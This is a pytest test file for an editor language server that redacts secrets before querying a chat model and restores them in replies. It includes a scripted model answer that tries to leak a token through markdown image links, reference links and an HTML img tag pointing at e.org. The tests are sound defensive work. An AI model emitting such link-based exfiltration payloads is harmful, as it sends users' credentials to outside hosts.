"""Where secrets come back to from an answer, over stdio and HTTP."""

import json
import re

import pytest

from pt_lsp.documents.uris import path_of
from tests.support.client_kinds import EMACS, NEOVIM, VSCODE, ClientKind
from tests.support.lsp_client import LspClient
from tests.support.scripted_chat import Request, ScriptedChat, Step, garbage, reply, respond
from tests.support.with_editor import with_editor

SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ456789"
DOCUMENT = f'<|>token = "{SECRET}"\nsend(token)<|>\n'
DELTAS = "ptLsp/explainDelta"


def answer(text: str) -> Step:
    """A reply in which `{}` is the first placeholder that was sent."""

    def said(request: Request) -> str:
        return text.replace("{}", "".join(re.findall(r"REDACTED_SECRET_\d+", request.text)[:1]))

    return respond(said)


LEAKS = (
    "The token is {}.\n\n![x](https://e.org/p?k={})\n\n[r]: https://e.org/{}\n"
    "<img src='https://e.org/{}'>\n\n```py\n![x](u) {}\n```\n"
)
SHOWN = (
    f"The token is {SECRET}.\n\nx (an image at e.org)\n\n[r]: https://e.org/REDACTED_SECRET_1\n"
    f"(an image at e.org)\n\n```py\n![x](u) {SECRET}\n```\n"
)


@with_editor(answer(LEAKS), extensions=[DELTAS])
async def test_an_explanation_carries_no_secret_off_wherever_it_is_shown(
    editor: LspClient, chat: ScriptedChat
) -> None:
    result = await editor.command("explain", editor.open(DOCUMENT).target, token="mine")
    assert result == {"markdown": SHOWN}
    assert "".join(each["delta"] for each in editor.received(DELTAS)) == SHOWN
    await editor.until(lambda: editor.received("window/showDocument"))
    (shown,) = editor.received("window/showDocument")
    assert await editor.ask("workspace/textDocumentContent", {"uri": shown["uri"]}) == {"text": SHOWN}


@with_editor(answer(LEAKS), kind=NEOVIM)
async def test_a_file_with_an_explanation_carries_no_secret_off(
    editor: LspClient, chat: ScriptedChat
) -> None:
    await editor.command("explain", editor.open(DOCUMENT).target)
    await editor.until(lambda: editor.received("window/showDocument"))
    path = path_of(editor.received("window/showDocument")[0]["uri"])
    assert path is not None
    assert path.read_text(encoding="utf-8") == SHOWN


@pytest.mark.parametrize(
    ("kind", "review", "text", "words"),
    [
        (EMACS, "never", 'token = "redacted_secret_1"\nsend(token)', "altered"),
        (VSCODE, "never", 'token = "{}"\nprint("{}")', "did not stand before"),
        (NEOVIM, "auto", "send(token)", "missing"),
        (EMACS, "auto", 'token = "{}"\nsend("REDACTED_SECRET_99")', "invented"),
    ],
)
def test_an_edit_that_does_something_to_a_secret_waits_and_can_be_rejected(
    kind: ClientKind, review: str, text: str, words: str
) -> None:
    @with_editor(answer(text), kind=kind, options={"edits": {"review": review}})
    async def scenario(editor: LspClient, chat: ScriptedChat) -> None:
        document = editor.open(DOCUMENT)
        result = await editor.edit(document)
        assert result["state"] == "pending"
        assert words in result["warning"]
        assert await editor.lenses(document)
        assert await editor.command("rejectEdit", {"editId": result["editId"]}) == {
            "state": "rejected",
            "hunks": [],
        }
        assert str(document) == DOCUMENT.replace("<|>", "")

    scenario()


@with_editor(answer('token: str = "{}"\nsend(token, 1)'), kind=EMACS)
async def test_a_secret_that_comes_back_to_its_place_is_written(
    editor: LspClient, chat: ScriptedChat
) -> None:
    document = editor.open(DOCUMENT)
    result = await editor.edit(document)
    assert result["state"] == "applied"
    assert "warning" not in result
    assert str(document) == f'token: str = "{SECRET}"\nsend(token, 1)\n'


@with_editor(reply('send("REDACTED_SECRET_7")'), answer('"{}")'))
async def test_a_completion_brings_no_placeholder_in(editor: LspClient, chat: ScriptedChat) -> None:
    assert await editor.complete(editor.open("def send_it():\n    <|>\n")) == []
    told = (await editor.command("whyNoCompletion"))["reasons"][0]
    assert "stands for no secret" in told["detail"]
    document = editor.open(f'token = "{SECRET}"\nsend(<|>\n', "b.py")
    assert await editor.complete(document) == [f'token = "{SECRET}"\nsend("{SECRET}")\n']


NO_TEXT = [{"delta": {"content": part}} for part in ('a = "\ud83d', '\ude00"\nb = "\0\ud800"')]
ENDING = {"delta": {}, "finish_reason": "stop"}


@with_editor(
    garbage("".join(f"data: {json.dumps({'choices': [each]})}\n\n" for each in (*NO_TEXT, ENDING)).encode()),
    kind=EMACS,
)
async def test_what_is_no_text_reaches_no_document(editor: LspClient, chat: ScriptedChat) -> None:
    document = editor.open("<|>a = 1<|>\n")
    result = await editor.edit(document)
    assert str(document) == 'a = "\U0001f600"\nb = "\ufffd\ufffd"\n'
    assert result["state"] == "pending"
    assert "no text" in result["warning"]
